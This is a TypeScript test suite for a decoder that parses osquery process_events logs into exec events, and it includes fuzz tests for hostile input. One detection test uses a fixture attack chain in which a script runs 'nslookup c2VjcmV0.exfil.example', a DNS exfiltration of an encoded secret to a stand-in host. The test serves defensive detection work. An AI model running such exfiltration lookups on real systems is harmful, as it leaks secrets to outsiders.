import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { DecodeOutput, RawRecord } from "../../../lib/telemetry/decoder.js";
import type { ExecEvent } from "../../../lib/telemetry/exec-event.js";
import { decodeOsqueryResult, osqueryDecoder } from "../../../lib/telemetry/sources/osquery.js";
import { detect } from "../../helpers/exec-events.js";
import { readSample } from "../../helpers/samples.js";

const ctx = { defaultHost: "stream-host" };

// Raw text matters only for quarantine; a value too deep to stringify still gets a record.
const record = (value: unknown): RawRecord => {
  try {
    return { text: JSON.stringify(value) ?? "", line: 7 };
  } catch {
    return { text: "<too deep>", line: 7 };
  }
};
const decode = (value: unknown): DecodeOutput => osqueryDecoder.decode(value, record(value), ctx);
const eventOf = (value: unknown): ExecEvent => {
  const out = decode(value);
  if (out.kind !== "event") throw new Error(`${out.kind}: ${out.reason}`);
  return out.event;
};
const decodeAll = (value: unknown): DecodeOutput[] => {
  const out: DecodeOutput[] = [];
  decodeOsqueryResult(value, record(value), ctx, out);
  return out;
};

type Line = Record<string, unknown> & { columns: Record<string, unknown> };

/** The upstream docs sample: `curl google.com`, every value a string, `parent` and `cwd` empty. */
const processEvents = (): Line =>
  JSON.parse(readSample("upstream/osquery/docs_process-auditing_process_events_curl.json"));
const socketEvents = (): Line =>
  JSON.parse(readSample("upstream/osquery/docs_process-auditing_socket_events_curl.json"));

const withColumns = (edit: (columns: Record<string, unknown>) => void): Line => {
  const line = processEvents();
  edit(line.columns);
  return line;
};

/** A process_events row as osquery 5 writes it in the event format (header with epoch and counter). */
const row = (columns: Record<string, string>, time = "1764237600"): Line => ({
  name: "pack_incident-response_process_events",
  hostIdentifier: "web-01",
  calendarTime: "Thu Nov 27 10:00:00 2025 UTC",
  unixTime: 1764237610,
  epoch: 0,
  counter: 12,
  numerics: false,
  decorations: { host_uuid: "4740D59F-699E-5B29-960B-979AAF9BBEEB", hostname: "web-01.internal" },
  columns: {
    uid: "33",
    auid: "4294967295",
    cwd: "/tmp",
    syscall: "execve",
    time,
    ...columns,
  },
  action: "added",
});

describe("osqueryDecoder on the upstream samples", () => {
  it("decodes the process_events curl row: strings, empty parent and cwd", () => {
    const value = processEvents();
    expect(osqueryDecoder.matches(value)).toBe(true);
    const out = decode(value);
    expect(out).toMatchObject({ kind: "event", line: 7 });
    const event = eventOf(value);
    expect(event).toEqual({
      host: { name: "vagrant" },
      user: { id: "0", auditId: "1000" },
      // parent "" → ppid 0 and no parent; cwd "" → no cwd.
      process: { pid: 30219, ppid: 0, executable: "/usr/bin/curl", args: ["curl", "google.com"] },
      // columns.time (the exec), not unixTime (the query run, 9 s later).
      time: 1527895541000,
      source: { format: "osquery", eventId: "vagrant:process_events:30219:1527895541000:/usr/bin/curl" },
    });
  });

  it("skips the socket_events row, naming the query, without calling it malformed", () => {
    const value = socketEvents();
    expect(osqueryDecoder.matches(value)).toBe(true);
    expect(decode(value)).toEqual({
      kind: "skipped",
      line: 7,
      reason: 'osquery: a row of query "socket_events" is not a process exec (no cmdline column)',
    });
  });
});

describe("osqueryDecoder traps", () => {
  it.each<
    [string, Record<string, string | undefined>, { ppid?: number; cwd?: string | undefined; pid?: number }]
  >([
    ["parent a pid string", { parent: "4100" }, { ppid: 4100 }],
    ["parent empty", { parent: "" }, { ppid: 0 }],
    ["parent -1 (osquery could not tell)", { parent: "-1" }, { ppid: 0 }],
    ["parent absent", { parent: undefined }, { ppid: 0 }],
    ["cwd set", { cwd: "/var/tmp" }, { cwd: "/var/tmp" }],
    ["cwd empty", { cwd: "" }, { cwd: undefined }],
    ["pid with leading zeros", { pid: "030219" }, { pid: 30219 }],
  ])("%s", (_name, columns, expected) => {
    const value = withColumns((c) => {
      for (const [key, v] of Object.entries(columns)) {
        if (v === undefined) delete c[key];
        else c[key] = v;
      }
    });
    const event = eventOf(value);
    for (const [key, v] of Object.entries(expected)) {
      expect(event.process[key as keyof typeof event.process]).toEqual(v);
    }
    if (expected.ppid !== undefined) {
      expect(event.parent).toEqual(expected.ppid > 0 ? { pid: expected.ppid } : undefined);
    }
  });

  it("reads numbers when the logger runs with numerics", () => {
    const value = withColumns((c) => {
      c["pid"] = 30219;
      c["parent"] = -1;
      c["uid"] = 0;
      c["time"] = 1527895541;
    });
    value["numerics"] = true;
    const event = eventOf(value);
    expect(event.process).toMatchObject({ pid: 30219, ppid: 0 });
    expect(event.user.id).toBe("0");
    expect(event.time).toBe(1527895541000);
  });

  it.each([
    ["epoch seconds string", { time: "1527895541" }, 1527895541000],
    ["epoch seconds with a fraction", { time: "1527895541.25" }, 1527895541250],
    ["already milliseconds (converted by a pipeline)", { time: "1527895541123" }, 1527895541123],
    ["time empty: unixTime", { time: "" }, 1527895550000],
    ["time absent: unixTime", { time: undefined }, 1527895550000],
  ])("time: %s", (_name, columns, expected) => {
    const value = withColumns((c) => {
      if (columns.time === undefined) delete c["time"];
      else c["time"] = columns.time;
    });
    expect(eventOf(value).time).toBe(expected);
  });

  it.each([
    ["added", "event"],
    ["snapshot", "event"],
    [undefined, "event"],
    ["removed", "skipped"],
    ["changed", "malformed"],
  ])("action %s → %s", (action, kind) => {
    const value = processEvents();
    if (action === undefined) delete value["action"];
    else value["action"] = action;
    expect(decode(value).kind).toBe(kind);
  });

  it.each([
    ["execve", "event", undefined],
    ["execveat", "event", undefined],
    ["", "event", undefined],
    ["fork", "skipped", 'osquery: syscall "fork" is not an exec'],
    ["clone", "skipped", 'osquery: syscall "clone" is not an exec'],
  ])("syscall %j → %s", (syscall, kind, reason) => {
    const out = decode(withColumns((c) => (c["syscall"] = syscall)));
    expect(out.kind).toBe(kind);
    if (reason !== undefined) expect(out).toMatchObject({ reason });
  });

  it("skips a failed exec of bpf_process_events (exit_code not 0)", () => {
    expect(decode(withColumns((c) => (c["exit_code"] = "-2")))).toMatchObject({
      kind: "skipped",
      reason: "osquery: failed exec",
    });
    expect(decode(withColumns((c) => (c["exit_code"] = "0"))).kind).toBe("event");
  });

  it("splits cmdline on spaces (osquery keeps no quoting) but keeps json_cmdline whole", () => {
    const split = eventOf(withColumns((c) => (c["cmdline"] = "sh  -c echo a b")));
    expect(split.process.args).toEqual(["sh", "-c", "echo", "a", "b"]);
    const json = eventOf(
      withColumns((c) => {
        c["cmdline"] = "sh -c echo a b";
        c["json_cmdline"] = JSON.stringify(["sh", "-c", "echo a b"]);
      }),
    );
    expect(json.process.args).toEqual(["sh", "-c", "echo a b"]);
    // json_cmdline that is not a string array falls back to cmdline.
    const bad = eventOf(withColumns((c) => (c["json_cmdline"] = '{"argv":1}')));
    expect(bad.process.args).toEqual(["curl", "google.com"]);
  });

  it("flags args cut by the eBPF probe (probe_error 1)", () => {
    expect(eventOf(withColumns((c) => (c["probe_error"] = "1"))).process.argsTruncated).toBe(true);
    expect(eventOf(withColumns((c) => (c["probe_error"] = "0"))).process.argsTruncated).toBeUndefined();
  });

  it("uses eid for the event id when the query selects it", () => {
    expect(eventOf(withColumns((c) => (c["eid"] = "0000048213"))).source.eventId).toBe(
      "vagrant:process_events:30219:1527895541000:0000048213",
    );
  });

  it("gives the same event id to the same row reported by two snapshot runs", () => {
    const first = row({ pid: "4101", parent: "4100", path: "/usr/bin/dig", cmdline: "dig x" });
    const second = { ...first, counter: 13, action: "snapshot" };
    expect(eventOf(second).source.eventId).toBe(eventOf(first).source.eventId);
  });

  it.each([
    ["hostIdentifier", { hostIdentifier: "i-0abc" }, "i-0abc"],
    ["decorations.hostname without hostIdentifier", { hostIdentifier: undefined }, "web-01.internal"],
    ["nothing", { hostIdentifier: "", decorations: undefined }, "stream-host"],
  ])("host from %s", (_name, header, expected) => {
    const value: Record<string, unknown> = row({ pid: "1", path: "/bin/true", cmdline: "true" });
    for (const [key, v] of Object.entries(header)) {
      if (v === undefined) delete value[key];
      else value[key] = v;
    }
    expect(eventOf(value).host).toEqual({ name: expected });
  });

  it.each([
    ["not an object", [1, 2], "osquery: record is not a JSON object"],
    ["columns missing", { name: "process_events", hostIdentifier: "h" }, "osquery: columns is missing"],
    [
      "columns an array",
      { name: "q", hostIdentifier: "h", columns: [] },
      "osquery: columns is not an object",
    ],
    ["action a number", { ...processEvents(), action: 1 }, "osquery: action is not a string"],
    ["pid not a number", withColumns((c) => (c["pid"] = "30219x")), "osquery: columns.pid is not a number"],
    ["pid negative", withColumns((c) => (c["pid"] = "-5")), "osquery: columns.pid is not a number"],
    ["pid huge", withColumns((c) => (c["pid"] = "9".repeat(5000))), "osquery: columns.pid is not a number"],
    ["path empty", withColumns((c) => (c["path"] = "")), "osquery: columns.path is empty"],
    ["path an object", withColumns((c) => (c["path"] = {})), "osquery: columns.path is not a string"],
    ["cmdline a number", withColumns((c) => (c["cmdline"] = 5)), "osquery: columns.cmdline is not a string"],
    ["parent garbage", withColumns((c) => (c["parent"] = "bash")), "osquery: columns.parent is not a number"],
    ["parent an array", withColumns((c) => (c["parent"] = [1])), "osquery: columns.parent is not a number"],
    [
      "time garbage",
      withColumns((c) => (c["time"] = "yesterday")),
      "osquery: columns.time is not epoch seconds",
    ],
    [
      "no time at all",
      (() => {
        const value = withColumns((c) => delete c["time"]);
        delete value["unixTime"];
        return value;
      })(),
      "osquery: neither columns.time nor unixTime",
    ],
  ])("%s → malformed", (_name, value, reason) => {
    expect(decode(value)).toMatchObject({ kind: "malformed", reason });
  });
});

describe("osquery batch and snapshot lines", () => {
  const batch = () => ({
    name: "process_events",
    hostIdentifier: "web-01",
    unixTime: "1764237610",
    diffResults: {
      added: [
        row({ pid: "4101", parent: "4100", path: "/usr/bin/dig", cmdline: "dig x.example" }).columns,
        socketEvents().columns,
      ],
      removed: [row({ pid: "4000", parent: "1", path: "/usr/bin/bash", cmdline: "bash" }).columns],
    },
  });

  it("reports a batch holding process rows as malformed, naming the logger flag", () => {
    const value = batch();
    expect(osqueryDecoder.matches(value)).toBe(true);
    expect(decode(value)).toMatchObject({
      kind: "malformed",
      reason:
        "osquery: 3 rows in one line (batch format): set --logger_event_type=true so that each row is its own line",
    });
  });

  it("skips a batch without process rows", () => {
    const value = { ...batch(), diffResults: { added: [socketEvents().columns], removed: [] } };
    expect(decode(value)).toMatchObject({ kind: "skipped" });
  });

  it("names the snapshot flag for a snapshot line", () => {
    const value = { name: "procs", hostIdentifier: "h", unixTime: 1, snapshot: [processEvents().columns] };
    expect(decode(value)).toMatchObject({
      kind: "malformed",
      reason: expect.stringContaining("--logger_snapshot_event_type=true"),
    });
  });

  it("decodeOsqueryResult expands every row, at the line's position", () => {
    const outs = decodeAll(batch());
    expect(outs.map((o) => o.kind)).toEqual(["event", "skipped", "skipped"]);
    expect(outs.every((o) => o.line === 7)).toBe(true);
    const first = outs[0]!;
    if (first.kind !== "event") throw new Error("expected an event");
    expect(first.event.process).toMatchObject({ pid: 4101, ppid: 4100, args: ["dig", "x.example"] });
    expect(outs[2]).toMatchObject({ reason: "osquery: a removed row is not a new exec" });
  });

  it("decodeOsqueryResult passes an event-format line through as one output", () => {
    expect(decodeAll(processEvents()).map((o) => o.kind)).toEqual(["event"]);
    expect(decodeAll({ name: "q", hostIdentifier: "h", snapshot: [] })).toMatchObject([{ kind: "skipped" }]);
    expect(decodeAll({ name: "q", hostIdentifier: "h", snapshot: [1] })).toMatchObject([
      { kind: "malformed" },
    ]);
  });
});

describe("osqueryDecoder.matches", () => {
  it("recognises osquery result lines only", () => {
    expect(osqueryDecoder.matches({ name: "q", hostIdentifier: "h", diffResults: {} })).toBe(true);
    expect(osqueryDecoder.matches({ name: "q", unixTime: 1, snapshot: [] })).toBe(true);
    expect(osqueryDecoder.matches({ name: "q", columns: {} })).toBe(false);
    expect(osqueryDecoder.matches({ hostIdentifier: "h", columns: {} })).toBe(false);
    expect(osqueryDecoder.matches({ ID: "1.000:1", SYSCALL: {} })).toBe(false);
    expect(osqueryDecoder.matches({ "@timestamp": "x", process: { pid: 1 }, event: {} })).toBe(false);
    expect(osqueryDecoder.matches("columns")).toBe(false);
  });
});

describe("the same attack chain in osquery process_events", () => {
  it("alerts on nslookup run by sh /tmp/x.sh", async () => {
    const lines = [
      row(
        { pid: "4000", parent: "1", path: "/usr/bin/bash", cmdline: "bash", cwd: "/var/www" },
        "1764237590",
      ),
      row({ pid: "4100", parent: "4000", path: "/usr/bin/dash", cmdline: "sh /tmp/x.sh" }, "1764237600"),
      // The same second as its parent: osquery times are whole seconds.
      row({
        pid: "4101",
        parent: "4100",
        path: "/usr/bin/nslookup",
        cmdline: "nslookup c2VjcmV0.exfil.example",
      }),
    ];
    const events = lines.map(eventOf);
    const { alerts } = await detect(events);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      utility: { name: "nslookup" },
      location: { path: "/tmp/x.sh" },
    });
  });
});

describe("osqueryDecoder on hostile data", () => {
  const kinds = ["event", "skipped", "malformed"];

  it("never throws, whatever the value", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(kinds).toContain(decode(value).kind);
        for (const out of decodeAll(value)) expect(kinds).toContain(out.kind);
      }),
    );
  });

  it("never throws when any column or header field holds anything", () => {
    const columnKeys = [
      ...Object.keys(processEvents().columns),
      "syscall",
      "exit_code",
      "json_cmdline",
      "probe_error",
      "eid",
    ];
    const headerKeys = [
      "name",
      "hostIdentifier",
      "unixTime",
      "action",
      "decorations",
      "columns",
      "diffResults",
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...columnKeys),
        fc.anything(),
        fc.constantFrom(...headerKeys),
        fc.anything(),
        (column, junk, header, headerJunk) => {
          const value: Record<string, unknown> = withColumns((c) => (c[column] = junk));
          expect(kinds).toContain(decode(value).kind);
          value[header] = headerJunk;
          expect(kinds).toContain(decode(value).kind);
          for (const out of decodeAll(value)) expect(kinds).toContain(out.kind);
        },
      ),
    );
  });

  it("never throws on batches of arbitrary rows", () => {
    fc.assert(
      fc.property(
        fc.array(fc.anything(), { maxLength: 8 }),
        fc.array(fc.anything(), { maxLength: 4 }),
        (added, removed) => {
          const value = { name: "q", hostIdentifier: "h", unixTime: 1, diffResults: { added, removed } };
          expect(kinds).toContain(decode(value).kind);
          for (const out of decodeAll(value)) expect(kinds).toContain(out.kind);
        },
      ),
    );
  });
});
